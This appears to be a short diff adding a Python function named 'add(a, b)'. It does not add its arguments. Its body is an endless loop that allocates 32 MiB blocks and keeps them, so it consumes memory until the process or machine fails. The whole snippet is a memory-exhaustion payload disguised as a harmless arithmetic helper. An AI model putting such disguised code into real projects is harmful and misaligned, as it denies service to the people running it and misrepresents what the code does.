@@ -1,0 +1,4 @@
+def add(a, b):
+    held = []
+    while True:
+        held.append(bytearray(32 << 20))
